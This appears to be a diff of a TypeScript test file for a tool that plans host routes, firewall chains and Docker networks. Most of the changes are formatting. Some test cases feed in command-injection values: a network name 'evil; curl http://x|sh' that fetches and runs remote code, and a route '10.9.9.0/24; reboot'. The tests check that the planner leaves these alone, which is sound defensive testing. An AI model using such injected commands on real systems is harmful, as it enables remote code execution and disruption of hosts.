@@ -3,7 +3,16 @@
 // gets shows up here.
 import { describe, expect, it } from 'vitest';
 import { emptyObservedState, parseIPv4, renderRule, validateCommands, type Command, type ObservedState } from '@crossdock/shared';
-import { desiredState, environmentOf, firewallPolicy, type DesiredState, type FirewallPolicy, type PlanHost, type PlanPool, type PlanSubnet } from './desired.ts';
+import {
+  desiredState,
+  environmentOf,
+  firewallPolicy,
+  type DesiredState,
+  type FirewallPolicy,
+  type PlanHost,
+  type PlanPool,
+  type PlanSubnet,
+} from './desired.ts';
 import { plan } from './plan.ts';
 
 const POOL = '10.100.0.0/16';
@@ -62,7 +71,13 @@ const natChain = (...locals: number[]): Command => ({
   chain: 'CROSSDOCK-POSTROUTING',
   rules: locals.map((third) => ({ source: `10.100.${third}.0/24`, destination: POOL, target: 'ACCEPT' as const, comment: 'crossdock' })),
 });
-const filterJump = (from: 'DOCKER-USER' | 'FORWARD' = 'DOCKER-USER'): Command => ({ kind: 'firewall.jump', table: 'filter', from, to: 'CROSSDOCK-FORWARD', position: 1 });
+const filterJump = (from: 'DOCKER-USER' | 'FORWARD' = 'DOCKER-USER'): Command => ({
+  kind: 'firewall.jump',
+  table: 'filter',
+  from,
+  to: 'CROSSDOCK-FORWARD',
+  position: 1,
+});
 const NAT_JUMP: Command = { kind: 'firewall.jump', table: 'nat', from: 'POSTROUTING', to: 'CROSSDOCK-POSTROUTING', position: 1 };
 const GATEWAY_MODE = { 'com.docker.network.bridge.gateway_mode_ipv4': 'nat-unprotected' };
 
@@ -97,7 +112,14 @@ function applied(desired: DesiredState, facts: ObservedState): ObservedState {
   state.firewall.chains = desired.chains.map((c) => ({ table: c.table, name: c.chain, rules: c.rules.map((r) => renderRule(c.chain, r)) }));
   state.firewall.jumps = desired.jumps.map((j) => ({ table: j.table, from: j.from, to: j.to, position: j.position }));
   if (state.docker.available) {
-    state.docker.networks = desired.networks.map((n, i) => ({ id: `net${i}`, name: n.name, subnet: n.subnet, gateway: n.gateway, labels: { ...n.labels }, containers: 0 }));
+    state.docker.networks = desired.networks.map((n, i) => ({
+      id: `net${i}`,
+      name: n.name,
+      subnet: n.subnet,
+      gateway: n.gateway,
+      labels: { ...n.labels },
+      containers: 0,
+    }));
     if (desired.bip) state.docker.bip = desired.bip.bip;
   }
   state.sysctl = { [desired.sysctl.key]: desired.sysctl.value };
@@ -141,7 +163,10 @@ function run(c: Case, skipped: string[] = []): Command[] {
 
 /** The firewall policy of a cluster, built as the controller builds it. */
 function policyOf(hosts: PlanHost[], pools: PlanPool[]): FirewallPolicy {
-  return firewallPolicy(pools, hosts.map((h) => parseIPv4(h.address)!));
+  return firewallPolicy(
+    pools,
+    hosts.map((h) => parseIPv4(h.address)!),
+  );
 }
 
 function table(cases: Case[]): void {
@@ -170,7 +195,7 @@ describe('plan: a host from nothing', () => {
       expected: [SYSCTL, network(1, 1), forwardChain([1], ONLY_A), natChain(1), filterJump(), NAT_JUMP],
     },
     {
-      name: 'a host with two peers: the same, plus a route to each peer subnet via the peer, on this host\'s interface',
+      name: "a host with two peers: the same, plus a route to each peer subnet via the peer, on this host's interface",
       hosts: [A, B, C],
       before: 'nothing',
       expected: [SYSCTL, network(1, 1), forwardChain([1], A_B_C), natChain(1), filterJump(), NAT_JUMP, route(2, B.address), route(3, C.address)],
@@ -236,7 +261,12 @@ describe('plan: a host from nothing', () => {
             ...both('198.51.100.11/32', 'crossdock host'),
           ],
         },
-        { kind: 'firewall.chain', table: 'nat', chain: 'CROSSDOCK-POSTROUTING', rules: [{ source: '10.100.8.0/22', destination: POOL, target: 'ACCEPT', comment: 'crossdock' }] },
+        {
+          kind: 'firewall.chain',
+          table: 'nat',
+          chain: 'CROSSDOCK-POSTROUTING',
+          rules: [{ source: '10.100.8.0/22', destination: POOL, target: 'ACCEPT', comment: 'crossdock' }],
+        },
         filterJump(),
         NAT_JUMP,
       ],
@@ -245,7 +275,15 @@ describe('plan: a host from nothing', () => {
       name: 'a bip subnet and a network subnet: bip for one, a network for the other, rules for both',
       self: { ...A, subnets: [subnet(1, 1, 'unused', 'bip'), subnet(4, 4, 'crossdock-2')] },
       before: 'nothing',
-      expected: [SYSCTL, { kind: 'docker.daemon.bip', bip: '10.100.1.1/24' }, network(4, 4, 'crossdock-2'), forwardChain([1, 4], ONLY_A), natChain(1, 4), filterJump(), NAT_JUMP],
+      expected: [
+        SYSCTL,
+        { kind: 'docker.daemon.bip', bip: '10.100.1.1/24' },
+        network(4, 4, 'crossdock-2'),
+        forwardChain([1, 4], ONLY_A),
+        natChain(1, 4),
+        filterJump(),
+        NAT_JUMP,
+      ],
     },
     {
       name: 'DOCKER-USER missing: the jump comes from FORWARD',
@@ -259,12 +297,17 @@ describe('plan: a host from nothing', () => {
 describe('plan: the cluster changes', () => {
   table([
     {
-      name: 'a peer joins: one route.replace via its address on this host\'s interface, and the chain accepts the peer',
+      name: "a peer joins: one route.replace via its address on this host's interface, and the chain accepts the peer",
       hosts: [A, B, C],
       before: { self: A, hosts: [A, B] },
       expected: [forwardChain([1], A_B_C), route(3, C.address)],
     },
-    { name: 'a peer leaves: route.delete, and the chain no longer accepts it', hosts: [A, B], before: { self: A, hosts: [A, B, C] }, expected: [forwardChain([1], A_B), routeDelete(3)] },
+    {
+      name: 'a peer leaves: route.delete, and the chain no longer accepts it',
+      hosts: [A, B],
+      before: { self: A, hosts: [A, B, C] },
+      expected: [forwardChain([1], A_B), routeDelete(3)],
+    },
     {
       name: 'every peer leaves: a delete each, and the chain accepts this host alone',
       hosts: [A],
@@ -326,7 +369,7 @@ describe('plan: the cluster changes', () => {
   ]);
 });
 
-describe('plan: a pool\'s allowFrom changes', () => {
+describe("plan: a pool's allowFrom changes", () => {
   const allowing = (...allowFrom: string[]): PlanPool[] => [{ cidr: POOL, allowFrom }];
   table([
     {
@@ -370,7 +413,13 @@ describe('plan: a pool\'s allowFrom changes', () => {
       before: { self: A, hosts: [A, B, C] },
       expected: [forwardChain([1], A_B_C, ['198.51.100.13/32'])],
     },
-    { name: 'the same allowFrom again: nothing', hosts: [A, B], pools: allowing('192.0.2.0/24'), before: { self: A, hosts: [A, B], pools: allowing('192.0.2.0/24') }, expected: [] },
+    {
+      name: 'the same allowFrom again: nothing',
+      hosts: [A, B],
+      pools: allowing('192.0.2.0/24'),
+      before: { self: A, hosts: [A, B], pools: allowing('192.0.2.0/24') },
+      expected: [],
+    },
   ]);
 });
 
@@ -379,7 +428,12 @@ describe('plan: drift on the host', () => {
     { name: 'observed route missing', hosts: [A, B, C], drift: (o) => void o.routes.splice(0, 1), expected: [route(2, B.address)] },
     { name: 'observed route with the wrong via', hosts: [A, B, C], drift: (o) => void (routeTo(o, 3).via = '198.51.100.99'), expected: [route(3, C.address)] },
     { name: 'observed route with the wrong dev', hosts: [A, B, C], drift: (o) => void (routeTo(o, 2).dev = 'eth0'), expected: [route(2, B.address)] },
-    { name: 'observed route of our protocol without a gateway (via "")', hosts: [A, B], drift: (o) => void (routeTo(o, 2).via = ''), expected: [route(2, B.address)] },
+    {
+      name: 'observed route of our protocol without a gateway (via "")',
+      hosts: [A, B],
+      drift: (o) => void (routeTo(o, 2).via = ''),
+      expected: [route(2, B.address)],
+    },
     {
       name: 'an extra route of our protocol: deleted',
       hosts: [A, B],
@@ -393,10 +447,18 @@ describe('plan: drift on the host', () => {
       expected: [forwardChain([1], ONLY_A)],
     },
     { name: 'filter chain rules in another order', drift: (o) => void filterChainOf(o).rules.reverse(), expected: [forwardChain([1], ONLY_A)] },
-    { name: 'a rule added by hand to the filter chain', drift: (o) => void filterChainOf(o).rules.push('-A CROSSDOCK-FORWARD -j ACCEPT'), expected: [forwardChain([1], ONLY_A)] },
+    {
+      name: 'a rule added by hand to the filter chain',
+      drift: (o) => void filterChainOf(o).rules.push('-A CROSSDOCK-FORWARD -j ACCEPT'),
+      expected: [forwardChain([1], ONLY_A)],
+    },
     { name: 'filter chain flushed', drift: (o) => void (filterChainOf(o).rules = []), expected: [forwardChain([1], ONLY_A)] },
     { name: 'nat chain missing', drift: (o) => void (o.firewall.chains = o.firewall.chains.filter((c) => c.table !== 'nat')), expected: [natChain(1)] },
-    { name: 'nat chain with a rule differing', drift: (o) => void (natChainOf(o).rules[0] = '-A CROSSDOCK-POSTROUTING -s 10.100.1.0/24 -j RETURN'), expected: [natChain(1)] },
+    {
+      name: 'nat chain with a rule differing',
+      drift: (o) => void (natChainOf(o).rules[0] = '-A CROSSDOCK-POSTROUTING -s 10.100.1.0/24 -j RETURN'),
+      expected: [natChain(1)],
+    },
     {
       name: 'the same chain name in the other table does not count',
       drift: (o) => void (natChainOf(o).name = 'CROSSDOCK-FORWARD'),
@@ -431,12 +493,24 @@ describe('plan: drift on the host', () => {
     {
       name: 'stale managed network: removed',
       drift: (o) =>
-        void o.docker.networks.push({ id: 'old', name: 'crossdock-old', subnet: '10.100.7.0/24', gateway: '10.100.7.1', labels: { 'io.crossdock.managed': 'true' }, containers: 0 }),
+        void o.docker.networks.push({
+          id: 'old',
+          name: 'crossdock-old',
+          subnet: '10.100.7.0/24',
+          gateway: '10.100.7.1',
+          labels: { 'io.crossdock.managed': 'true' },
+          containers: 0,
+        }),
       expected: [networkRemove('crossdock-old')],
     },
-    { name: 'bip reset to the default by hand', self: BIP_A, drift: (o) => void (o.docker.bip = '172.17.0.1/16'), expected: [{ kind: 'docker.daemon.bip', bip: '10.100.1.1/24' }] },
     {
-      name: 'everything at once, in the planner\'s order',
+      name: 'bip reset to the default by hand',
+      self: BIP_A,
+      drift: (o) => void (o.docker.bip = '172.17.0.1/16'),
+      expected: [{ kind: 'docker.daemon.bip', bip: '10.100.1.1/24' }],
+    },
+    {
+      name: "everything at once, in the planner's order",
       hosts: [A, B, C],
       drift: (o) => {
         o.sysctl = {};
@@ -451,7 +525,14 @@ describe('plan: drift on the host', () => {
 });
 
 describe('plan: foreign things are left alone', () => {
-  const foreignNetwork = (name: string, labels: Record<string, string> = {}) => ({ id: name, name, subnet: '10.100.1.0/24', gateway: '10.100.1.1', labels, containers: 3 });
+  const foreignNetwork = (name: string, labels: Record<string, string> = {}) => ({
+    id: name,
+    name,
+    subnet: '10.100.1.0/24',
+    gateway: '10.100.1.1',
+    labels,
+    containers: 3,
+  });
   table([
     { name: 'an unlabelled Docker network is never removed', drift: (o) => void o.docker.networks.push(foreignNetwork('mynet')), expected: [] },
     {
@@ -460,7 +541,7 @@ describe('plan: foreign things are left alone', () => {
       expected: [],
     },
     {
-      name: 'an unlabelled network under our network\'s name is not removed (create is retried; Docker refuses it)',
+      name: "an unlabelled network under our network's name is not removed (create is retried; Docker refuses it)",
       drift: (o) => void (o.docker.networks = [foreignNetwork('crossdock')]),
       expected: [network(1, 1)],
     },
@@ -502,7 +583,14 @@ describe('plan: foreign things are left alone', () => {
 });
 
 describe('plan: observed things no valid command can name are left alone, and noted', () => {
-  const managed = (name: string) => ({ id: name, name, subnet: '10.100.9.0/24', gateway: '10.100.9.1', labels: { 'io.crossdock.managed': 'true' }, containers: 0 });
+  const managed = (name: string) => ({
+    id: name,
+    name,
+    subnet: '10.100.9.0/24',
+    gateway: '10.100.9.1',
+    labels: { 'io.crossdock.managed': 'true' },
+    containers: 0,
+  });
   const stray = (dst: string) => ({ dst, via: '198.51.100.1', dev: 'ens3' });
   const EVIL = 'evil; curl http://x|sh';
   table([
@@ -510,9 +598,16 @@ describe('plan: observed things no valid command can name are left alone, and no
       name: 'a labelled network whose name a shell would run: not removed',
       drift: (o) => void o.docker.networks.push(managed(EVIL)),
       expected: [],
-      skipped: [/^left alone: Docker network "evil; curl http:\/\/x\|sh" \(labelled io\.crossdock\.managed=true\): docker\.network\.remove name: .*; fix it by hand$/],
+      skipped: [
+        /^left alone: Docker network "evil; curl http:\/\/x\|sh" \(labelled io\.crossdock\.managed=true\): docker\.network\.remove name: .*; fix it by hand$/,
+      ],
     },
-    { name: "a labelled network named after one of Docker's own: not removed", drift: (o) => void o.docker.networks.push(managed('bridge')), expected: [], skipped: ['"bridge"'] },
+    {
+      name: "a labelled network named after one of Docker's own: not removed",
+      drift: (o) => void o.docker.networks.push(managed('bridge')),
+      expected: [],
+      skipped: ['"bridge"'],
+    },
     { name: 'a labelled network with an empty name', drift: (o) => void o.docker.networks.push(managed('')), expected: [], skipped: ['Docker network ""'] },
     {
       name: 'a labelled network with a 100,000-character name: noted by a short prefix',
@@ -526,8 +621,20 @@ describe('plan: observed things no valid command can name are left alone, and no
       expected: [networkRemove('crossdock-old')],
       skipped: ['evil'],
     },
-    { name: 'a default route tagged with our protocol: not deleted', hosts: [A, B], drift: (o) => void o.routes.push(stray('0.0.0.0/0')), expected: [], skipped: [/route "0\.0\.0\.0\/0" \(protocol 252\): .*default route/] },
-    { name: 'a route whose destination is not a CIDR', hosts: [A, B], drift: (o) => void o.routes.push(stray('10.9.9.0/24; reboot')), expected: [], skipped: ['"10.9.9.0/24; reboot"'] },
+    {
+      name: 'a default route tagged with our protocol: not deleted',
+      hosts: [A, B],
+      drift: (o) => void o.routes.push(stray('0.0.0.0/0')),
+      expected: [],
+      skipped: [/route "0\.0\.0\.0\/0" \(protocol 252\): .*default route/],
+    },
+    {
+      name: 'a route whose destination is not a CIDR',
+      hosts: [A, B],
+      drift: (o) => void o.routes.push(stray('10.9.9.0/24; reboot')),
+      expected: [],
+      skipped: ['"10.9.9.0/24; reboot"'],
+    },
     { name: 'a route with host bits set', hosts: [A, B], drift: (o) => void o.routes.push(stray('10.9.9.1/24')), expected: [], skipped: ['host bits'] },
     {
       name: 'a stale route beside an invalid one: the stale one is still deleted',
@@ -560,7 +667,7 @@ describe('plan: in sync', () => {
     { name: 'docker unavailable', hosts: [A, B], facts: { dockerAvailable: false }, expected: [] },
     { name: 'no DOCKER-USER', hosts: [A, B], facts: { dockerUser: false }, expected: [] },
     { name: 'bip mode', self: BIP_A, hosts: [BIP_A, B], expected: [] },
-    { name: 'a host without subnets (only the fleet\'s rules)', self: { ...A, subnets: [] }, hosts: [{ ...A, subnets: [] }, B], expected: [] },
+    { name: "a host without subnets (only the fleet's rules)", self: { ...A, subnets: [] }, hosts: [{ ...A, subnets: [] }, B], expected: [] },
     { name: 'a pool with allowFrom', hosts: [A, B], pools: [{ cidr: POOL, allowFrom: ['192.0.2.0/24'] }], expected: [] },
   ]);
 });
@@ -580,7 +687,11 @@ describe('plan: limits', () => {
       rounds.push(commands);
       const deleted = new Set(commands.filter((c) => c.kind === 'route.delete').map((c) => c.dst));
       observed = applied(desired, hostFacts());
-      observed.routes.push(...[...Array(25).keys()].map((i) => ({ dst: `10.200.${i}.0/24`, via: '198.51.100.50', dev: 'ens3' })).filter((r) => !rounds.flat().some((c) => c.kind === 'route.delete' && c.dst === r.dst)));
+      observed.routes.push(
+        ...[...Array(25).keys()]
+          .map((i) => ({ dst: `10.200.${i}.0/24`, via: '198.51.100.50', dev: 'ens3' }))
+          .filter((r) => !rounds.flat().some((c) => c.kind === 'route.delete' && c.dst === r.dst)),
+      );
       expect(deleted.size).toBeLessThanOrEqual(10);
     }
     expect(rounds.map((r) => r.filter((c) => c.kind === 'route.delete').length)).toEqual([10, 10, 5]);
@@ -591,7 +702,9 @@ describe('plan: limits', () => {
     const env = environmentOf(hostFacts());
     const desired = desiredState(A, [A], policyOf([A], POOLS), env);
     const observed = applied(desired, hostFacts());
-    observed.routes.push(...['default', 'x', '0.0.0.0/0', '10.201.0.0/24', '10.202.0.0/24', '10.203.0.0/24'].map((dst) => ({ dst, via: '198.51.100.50', dev: 'ens3' })));
+    observed.routes.push(
+      ...['default', 'x', '0.0.0.0/0', '10.201.0.0/24', '10.202.0.0/24', '10.203.0.0/24'].map((dst) => ({ dst, via: '198.51.100.50', dev: 'ens3' })),
+    );
     const skipped: string[] = [];
     expect(plan(desired, observed, { maxRouteDeletes: 2 }, skipped)).toStrictEqual([
       { kind: 'route.delete', dst: '10.201.0.0/24' },
